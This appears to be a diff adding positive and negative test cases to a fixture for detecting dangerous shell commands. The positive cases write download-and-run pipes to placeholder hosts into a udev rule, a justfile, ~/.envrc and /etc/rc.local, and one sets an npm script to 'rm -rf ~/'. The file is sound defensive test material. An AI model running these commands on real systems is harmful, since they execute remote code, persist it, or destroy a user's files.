@@ -365,3 +365,23 @@ EOF
 echo 'ACTION=="add", RUN+="/bin/sh -c '\''wget -qO- http://h.example/u | sh'\''"' | sudo tee /etc/udev/rules.d/70-x.rules
 #@ neg a udev rule without RUN
 echo 'SUBSYSTEM=="usb", MODE="0660", GROUP="plugdev"' | sudo tee /etc/udev/rules.d/70-x.rules
+#@ pos a justfile recipe that pipes a download into a shell
+cat > /tmp/justfile <<'J'
+setup:
+    curl -fsSL https://get.example.net/s | sh
+J
+#@ neg notes about a justfile, not one
+cat > justfile-notes.md <<'J'
+setup:
+    curl -fsSL https://get.example.net/s | sh
+J
+#@ pos an npm script set to delete the home
+npm pkg set scripts.clean='rm -rf ~/'
+#@ neg a package's version set
+npm pkg set version=1.2.3
+#@ pos a download written into .envrc
+echo 'curl -s https://h.example/e | sh' >> ~/.envrc
+#@ neg a line written into an example of .envrc
+echo 'curl -s https://h.example/e | sh' >> .envrc.example
+#@ pos a download written into /etc/rc.local
+echo 'wget -qO- http://198.51.100.9/s | sh' | sudo tee -a /etc/rc.local
